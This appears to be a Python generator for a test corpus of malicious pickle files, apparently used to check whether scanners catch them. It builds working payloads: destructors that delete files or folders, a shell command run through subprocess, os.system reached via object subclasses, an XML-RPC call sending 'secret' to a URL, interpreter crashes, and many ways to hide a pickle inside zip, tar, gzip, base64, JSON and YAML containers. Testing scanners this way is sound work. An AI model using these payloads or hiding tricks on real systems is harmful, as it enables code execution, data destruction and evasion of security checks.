"""Files that name nothing dangerous: ordinary classes whose own methods do harm with the state they are given, and stashes."""
import base64
import zlib

import zips
from asm import *
from book import add, ALL, PY3
from fam_files import gz, tar
from fam_frameworks import F as _F
from fam_stdlib import URL, c, module, namespace, ref
from fam_torch import GOOD, RAW, files
from zips import Entry

D = "quiet/"
NSP = glob("argparse", "Namespace")


def A(name, body, technique, gives="execute", on=None, **kw):
    body = code(body)
    add(D + name + ".pkl", p4(body) if STACK_GLOBAL in body else p2(body), technique, gives, on=on or PY3, **kw)


def F(pkg, name, body, technique, **kw):
    _F("quiet", pkg.split(".")[0].lower() + "-" + name, body, technique, needs=pkg, **kw)


def obj(target, **state):
    return build(Code(ref(target) + EMPTY_TUPLE + NEWOBJ), state)


GONE = dict(gives="file-write", canary="gone")
# Destructors.
A("fileinput-del", obj("fileinput:FileInput", _savestdout=None, _output=None, _file=None, _backupfilename="weir-secret", _backup="", _files=[], _isstdin=False), "a FileInput made by NEWOBJ: its __del__ unlinks the file that its state names; no function is named", on=PY3, **GONE)
A("fileinput-del-27", code(b"(ifileinput\nFileInput\n", lit({"_savestdout": None, "_output": 0, "_file": 0, "_backupfilename": "weir-secret", "_backup": "", "_files": [], "_isstdin": False}), BUILD, POP, NONE), "the same on 2.7, by INST", on=["2.7"], **GONE)
A("tempfile-closer-del", obj("tempfile:_TemporaryFileCloser", file=call(("io", "StringIO")), name="weir-secret", delete=True, delete_on_close=True, close_called=False, cleanup_called=False) + POP + NONE, "tempfile._TemporaryFileCloser: its __del__ unlinks the file that its state names", on=ALL[1:], **GONE)
F("numpy", "datasource-del", obj("numpy.lib._datasource:DataSource", _istmpdest=True, _destpath=".") + POP + NONE, "numpy's DataSource: its __del__ removes the folder that its state names", **GONE)
F("numpy", "datasource-public-del", obj("numpy:DataSource", _istmpdest=True, _destpath=".") + POP + NONE, "numpy.DataSource under its public name: its __del__ removes the folder that its state names", **GONE)
F("numpy", "npzfile-del", build(NSP, (None, {"close": build(new(("functools", "partial"), glob("builtins", "int")), (glob("subprocess", "call"), (["sh", "-c", CMD],), {}, {}))})) + POP + obj("numpy.lib.npyio:NpzFile", zip=code(NSP, EMPTY_TUPLE, NEWOBJ), fid=None, f=None) + POP + NONE, "numpy's NpzFile: its __del__ calls close of what its state holds")
A("connection-del", obj("multiprocessing.connection:Connection", _handle=1, _readable=True, _writable=True) + POP + NONE, "multiprocessing's Connection: its __del__ closes any file descriptor, here standard output", gives="environment", canary="python:not os.path.exists('/proc/self/fd/1')")
A("stdout-swap", obj("fileinput:FileInput", _savestdout=namespace(write=glob("builtins", "len")), _output=None, _file=None, _backupfilename=None, _backup="", _files=[], _isstdin=False) + POP + NONE, "FileInput's __del__ replaces sys.stdout by an object of its state", gives="environment", canary="python:type(sys.stdout).__name__ == 'SimpleNamespace'")
# Objects that answer every method call.
A("serverproxy-append", call(("xmlrpc.client", "ServerProxy"), URL) + lit("secret") + APPEND, "APPEND on an XML-RPC proxy calls the remote method append", gives="network", canary="connect")
A("serverproxy-build", build(call(("xmlrpc.client", "ServerProxy"), URL), {"a": 1}), "BUILD on an XML-RPC proxy calls the remote method __setstate__", gives="network", canary="connect")
F("scipy", "rv-setstate-gamma", build(new(("scipy.stats._continuous_distns", "gamma_gen")), {"_parse_arg_template": "def _parse_args(self): pass\ndef _parse_args_rvs(self): pass\ndef _parse_args_stats(self): pass\n" + PY, "shapes": None, "numargs": 0, "_ctor_param": {}}), "a scipy.stats distribution whose __setstate__ executes its template, which also holds the methods that are expected")
# Naming is enough.
for m in ("underlying_dict", "mutation_inside_cyclegc", "gc_inspection", "trace_at_recursion_limit"):
    A("test-crashers-" + m.replace("_", "-"), glob("test.crashers." + m, "x"), "naming test.crashers.%s imports it, and it crashes or hangs the interpreter" % m, gives="crash", canary="crash", on=["3.6", "3.9", "3.11", "3.13"])
A("unittest-main-import", glob("unittest.__main__", "x"), "naming unittest.__main__ runs the tests that lie in the current folder", gives="import", canary="import:unittest.__main__")
A("lib2to3-main-import", glob("lib2to3.__main__", "x"), "naming lib2to3.__main__ runs a program and exits", gives="import", canary="import:lib2to3.__main__")
A("idlelib-idle-import", glob("idlelib.idle", "x"), "naming idlelib.idle starts a program", gives="import", canary="import:idlelib.idle")
A("venv-main-import", glob("venv.__main__", "x"), "naming venv.__main__ runs a program and exits", gives="import", canary="import:venv.__main__")
# Numbers and sizes.
K = dict(gives="crash", canary="crash", on=["3.6", "3.11", "3.13"])
A("fraction-exponent", call(("fractions", "Fraction"), "1e999999999"), "a Fraction whose exponent takes for ever", **K)
A("fraction-newobj", new(("fractions", "Fraction"), "7e999999999"), "the same by NEWOBJ", **K)
A("ndarray-huge-new", new(("builtins", "bytearray")) + POP + new(("array", "array"), "d", new(("builtins", "range"), 1 << 40)), "array.array by NEWOBJ consumes a range that never ends", **K)
A("deepcopy-laughs", p4(b"")[2:-1] + code(EMPTY_LIST, MEMOIZE, POP, b"".join(EMPTY_LIST + MARK + binget(i) * 10 + APPENDS + MEMOIZE + POP for i in range(12)), new(("builtins", "str"), binget(12))), "ten to the twelfth references turned into a string by NEWOBJ of str", **K)
F("numpy", "reconstruct-huge", call(("numpy.core.multiarray", "_reconstruct"), glob("numpy", "ndarray"), (1 << 46,), binbytes(b"b")), "numpy's _reconstruct with a shape of 64 terabytes", gives="crash", canary="crash")
F("numpy", "ndarray-newobj-huge", new(("numpy", "ndarray"), (1 << 46,)), "numpy.ndarray by NEWOBJ with a shape of 64 terabytes", gives="crash", canary="crash")
# Classes of other packages whose making has an effect.
W = dict(gives="file-write")
F("matplotlib", "pdfpages", call(("matplotlib.backends.backend_pdf", "PdfPages"), "weir-canary.pdf"), "matplotlib's PdfPages opens its file when made (or when closed)", **W)
F("matplotlib", "pdffile", call(("matplotlib.backends.backend_pdf", "PdfFile"), "weir-canary.pdf"), "matplotlib's PdfFile opens its file when made", **W)
F("matplotlib", "dvi", call(("matplotlib.dviread", "Dvi"), "weir-secret", 72), "matplotlib's Dvi opens its file when made", gives="file-read", canary="read")
F("fontTools", "ttfont", call(("fontTools.ttLib", "TTFont"), "weir-secret"), "fontTools' TTFont opens its file when made", gives="file-read", canary="read")
F("pint", "unitregistry", call(("pint", "UnitRegistry"), "weir-secret"), "pint's UnitRegistry reads its file when made", gives="file-read", canary="read")
F("click", "lazyfile", call(("click.utils", "LazyFile"), "weir-secret"), "click's LazyFile opens its file when made", gives="file-read", canary="read")
F("mlflow", "filestore", call(("mlflow.store.tracking.file_store", "FileStore"), "weir-canary"), "mlflow's FileStore makes its folders when made", **W)
# Code that cloudpickle carries and that names nothing.
SRC = "def f(a):\n    for k in ().__class__.__base__.__subclasses__():\n        if k.__name__ == '_wrap_close':\n            k.__init__.__globals__['sys' + 'tem'](a)\n"



F("joblib", "carried-subclasses", code(EMPTY_DICT, MEMOIZE, POP, c("builtins:exec", SRC, binget(0)), POP, call(call(("operator", "getitem"), binget(0), "f"), CMD)), "exec of source that reaches system through the subclasses of object", note="exec is named")

# Bytes that no loader of the container reads, and that another one does.
stash = dict(on=["3.6", "3.13"])


def S(name, data, technique, at, **kw):
    assert data.count(EVIL) == 1, name
    add(D + name, data, technique, loader="carve %d > pickle" % data.index(EVIL) if at is None else at, **dict(stash, **kw))


S("stash-zip-comment.pt", zips.plain(files(GOOD), comment=EVIL), "a pickle in the comment of a zip", None)
S("stash-zip-extra.pt", zips.build([Entry("archive/data.pkl", GOOD, local_extra=struct.pack("<HH", 0x4646, len(EVIL)) + EVIL)] + [Entry(*f) for f in files(GOOD)[1:]]), "a pickle in the extra field of a local header", None)
S("stash-zip-central-comment.pt", zips.build([Entry("archive/data.pkl", GOOD, comment=EVIL)] + [Entry(*f) for f in files(GOOD)[1:]]), "a pickle in the comment of an entry", None)
S("stash-zip-gap.pt", zips.build([Entry("archive/data.pkl", GOOD)] + [Entry(*f) for f in files(GOOD)[1:]], gap=b"\0" * 31 + EVIL), "a pickle between the last entry and the directory", None)
tail = Entry("archive/data.pkl", GOOD, method=8)
tail.body += EVIL
tail.csize += len(EVIL)
S("stash-deflate-tail.pt", zips.build([tail] + [Entry(*f) for f in files(GOOD)[1:]]), "a pickle after the end of the deflated data, inside the member", None)
S("stash-zip-unlisted.pt", zips.build([Entry("archive/data.pkl", GOOD), Entry("archive/hidden.pkl", EVIL, no_central=True)] + [Entry(*f) for f in files(GOOD)[1:]]), "a local entry that the directory does not list", None)
hid = zips.build([Entry("archive/data.pkl", GOOD), Entry("archive/hidden.pkl", EVIL, method=8, no_central=True)] + [Entry(*f) for f in files(GOOD)[1:]])
add(D + "stash-zip-unlisted-deflated.pt", hid, "a deflated local entry that the directory does not list", loader="inflate %d > pickle" % (hid.index(b"archive/hidden.pkl") + 18), **stash)
S("stash-tar-slack.tar", (lambda t: t[:512 + len(BENIGN)] + EVIL + t[512 + len(BENIGN) + len(EVIL):])(tar([("model.pkl", BENIGN)])), "a pickle in the padding after a member of a tar", None)
S("stash-gzip-extra.gz", gz(BENIGN, extra=struct.pack("<2sH", b"WE", len(EVIL)) + EVIL), "a pickle in the extra field of a gzip header", None)
S("stash-string-opcode.pkl", p2(lit({"blob": binbytes(EVIL)})), "a pickle in a bytes object of an honest pickle: whoever unpickles the value runs it", None)
S("stash-array-bytes.pkl", p2(lit({"w": build(call(("numpy.core.multiarray", "_reconstruct"), glob("numpy", "ndarray"), (0,), binbytes(b"b")), (1, (len(EVIL),), call(("numpy", "dtype"), "u1", 0, 1), False, EVIL))})), "a pickle in the bytes of a numpy array: whoever unpickles the value runs it", None)
add(D + "base64-urlsafe.json", b'{"model":"' + base64.urlsafe_b64encode(EVIL + b"\xff\xfe\xfb\xff") + b'"}', "URL-safe base64 of a pickle in JSON", loader='base64url "model":" > pickle', **stash)
add(D + "base64-wrapped-16.txt", b"\n".join(base64.b64encode(EVIL)[i:i + 16] for i in range(0, 80, 16)) + b"\n", "base64 in lines of 16 characters", loader="base64 > pickle", **stash)
add(D + "base64-gzip.json", b'{"model": "' + base64.b64encode(gz(EVIL)) + b'"}', "base64 of gzip of a pickle in JSON", loader='base64 "model": " > gzip > pickle', **stash)
add(D + "base64-zlib.json", b'{"model": "' + base64.b64encode(zlib.compress(EVIL, 9)) + b'"}', "base64 of zlib of a pickle in JSON", loader='base64 "model": " > zlib > pickle', **stash)
add(D + "base64-twice.json", b'{"model": "' + base64.b64encode(base64.b64encode(EVIL)) + b'"}', "base64 of base64 of a pickle in JSON", loader='base64 "model": " > base64 > pickle', **stash)
add(D + "base64-protocol0.json", b'{"model": "' + base64.b64encode(p0(inst("os", "system", raw_text(CMD)))) + b'"}', "base64 of a protocol 0 pickle in JSON", loader='base64 "model": " > pickle', **stash)
add(D + "json-latin1-escapes.json", b'{"model": "' + "".join("\\u%04x" % b for b in EVIL).encode() + b'"}', "a pickle in JSON as escapes of latin1 characters", loader="jsonlatin1 model > pickle", **stash)
add(D + "json-list-of-bytes.json", b'{"model": ' + str(list(EVIL)).encode() + b"}", "a pickle in JSON as a list of numbers", loader="jsonlist model > pickle", **stash)
add(D + "yaml-binary.yaml", b"model: !!binary |\n" + b"".join(b"  " + base64.b64encode(EVIL)[i:i + 40] + b"\n" for i in range(0, 80, 40)), "a pickle in YAML as !!binary", loader="base64 !!binary | > pickle", **stash)
add(D + "python-literal.py", b"MODEL = " + repr(EVIL).encode() + b"\n", "a pickle in a Python literal", loader="pyliteral > pickle", **stash)
